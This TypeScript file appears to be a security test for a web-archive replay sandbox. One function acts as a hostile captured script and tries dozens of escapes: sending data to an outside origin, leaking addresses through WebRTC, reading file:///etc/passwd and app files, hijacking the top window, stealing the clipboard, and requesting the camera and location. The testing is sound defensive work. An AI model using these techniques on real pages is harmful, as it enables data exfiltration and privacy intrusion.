interface Aim {
  /** `http://HOST:PORT`, outside the archive. */
  origin: string;
  udpPort: number;
  /** Another file of the locker. */
  blob: string;
}

/**
 * What a captured script may try, all of it, in the replayed page; gives how each attempt ended. It runs
 * there as text, so it uses nothing but the page's own.
 */
export async function attackFromReplay({ origin, udpPort, blob }: Aim): Promise<Record<string, string>> {
  const host = new URL(origin).host;
  const top = globalThis.top as Window & typeof globalThis; // the page around the replay, of the same origin
  const tried: Record<string, string> = {};
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    const ended = Promise.resolve()
      .then(work)
      .then(
        (value) => `gave ${String(value)}`,
        (error: unknown) => (error instanceof Error ? error.name : 'refused'),
      );
    tried[name] = await Promise.race([
      ended,
      new Promise<string>((resolve) => setTimeout(resolve, 1500, 'nothing')),
    ]);
  };
  const load = <T extends HTMLElement>(element: T, parts: Partial<T>): Promise<string> =>
    new Promise((resolve, reject) => {
      element.addEventListener('load', () => resolve('it'));
      element.addEventListener('error', () => reject(new TypeError('refused')));
      document.body.append(Object.assign(element, parts));
    });
  const link = (rel: string): void =>
    document.head.append(Object.assign(document.createElement('link'), { rel, href: `${origin}/${rel}` }));
  const click = (parts: Partial<HTMLAnchorElement>): void =>
    Object.assign(document.createElement('a'), parts).click();
  const inFrame = (): Window & typeof globalThis => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow as Window & typeof globalThis; // it has just been added
  };
  const status = async (url: string, init?: RequestInit): Promise<string> => {
    const answer = await fetch(url, init);
    return `${answer.type} ${answer.status}`;
  };
  const run = (name: string, value: string, from: Document): string => {
    const field = from.createElement('textarea');
    from.body.append(field);
    field.value = value;
    field.select();
    // eslint-disable-next-line @typescript-eslint/no-deprecated -- what scripts have for the clipboard
    return `${String(from.execCommand(name))} ${field.value}`;
  };

  const ours = ['require', 'process', 'module', 'Buffer', 'jejak'];
  await attempt('bridge', () => ours.filter((name) => name in globalThis || name in top).join(' '));
  await attempt('fetch', () => status(`${origin}/fetch`, { mode: 'no-cors' }));
  await attempt('fetch of the top', () => top.fetch(`${origin}/fetch`, { mode: 'no-cors' }));
  await attempt('beacon', () => void navigator.sendBeacon(`${origin}/beacon`, 'x'));
  await attempt('image', () => load(new Image(), { src: `${origin}/image.png` }));
  await attempt('script', () => load(document.createElement('script'), { src: `${origin}/script.js` }));
  await attempt('frame', () =>
    load(document.createElement('iframe'), { src: `${origin}/frame` }).then(() => undefined),
  );
  await attempt('frame, not seen by the engine', () => {
    inFrame().location.replace(`${origin}/frame`);
  });
  await attempt('socket', () => {
    const Socket = inFrame().WebSocket;
    return new Promise((resolve, reject) => {
      const socket = new Socket(`ws://${host}/socket`);
      socket.onopen = resolve;
      socket.onerror = () => reject(new TypeError('refused'));
    });
  });
  await attempt('worker', () => {
    const code = `fetch('${origin}/worker', { mode: 'no-cors' }).then((a) => postMessage(a.type + ' ' + a.status), () => postMessage('refused'))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    return new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)));
  });
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender'])
    await attempt(rel, () => link(rel));
  await attempt('calls', async () => {
    const iceServers = [
      { urls: `stun:127.0.0.1:${udpPort}` },
      { urls: `turn:${host}?transport=tcp`, username: 'x', credential: 'x' },
    ];
    const calls = new RTCPeerConnection({ iceServers });
    calls.createDataChannel('x');
    await calls.setLocalDescription(await calls.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return calls.localDescription?.sdp.match(/^a=candidate.*$/gm)?.join() ?? 'no address';
  });
  await attempt('file of the locker', () => status(blob));
  await attempt('file of the locker, as a picture', () => load(new Image(), { src: blob }));
  await attempt('page of the app', () => status('jejak://app/index.html'));
  await attempt('another replay', () => status(`jejak-replay://${'ab'.repeat(16)}/arsip.wacz`));
  await attempt('file of the disk', () => status('file:///etc/passwd'));
  await attempt('the engine', () => status('/w/api/coll-index'));
  await attempt('new window', () => globalThis.open(`${origin}/window`));
  await attempt('new window of the top', () => top.open(`${origin}/window`));
  await attempt('link to a new window', () => click({ href: `${origin}/link`, target: '_blank' }));
  await attempt('download', () => click({ href: '/arsip.wacz', download: 'arsip.wacz' }));
  await attempt('leaving', () => {
    top.location.href = `${origin}/leaving`;
  });
  await attempt('leaving for the app', () => {
    top.location.href = 'jejak://app/index.html';
  });
  await attempt('form', () => {
    const form = document.createElement('form');
    document.body.append(Object.assign(form, { action: `${origin}/form`, method: 'post', target: '_top' }));
    form.submit();
  });
  await attempt('dialogs', () => {
    top.alert('x');
    top.print();
  });
  await attempt('clipboard, read', () => navigator.clipboard.readText());
  await attempt('clipboard, written', () => navigator.clipboard.writeText('stolen'));
  await attempt('copy', () => run('copy', 'stolen', document));
  await attempt('copy in a frame', () => run('copy', 'stolen', inFrame().document));
  await attempt('paste', () => run('paste', '', document));
  await attempt('paste in a frame', () => run('Paste', '', inFrame().document));
  await attempt('messages', () => Notification.requestPermission());
  await attempt(
    'place',
    () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  );
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
  await attempt('screen', () => navigator.mediaDevices.getDisplayMedia());
  await attempt('whole screen', () => document.documentElement.requestFullscreen());
  return tried;
}
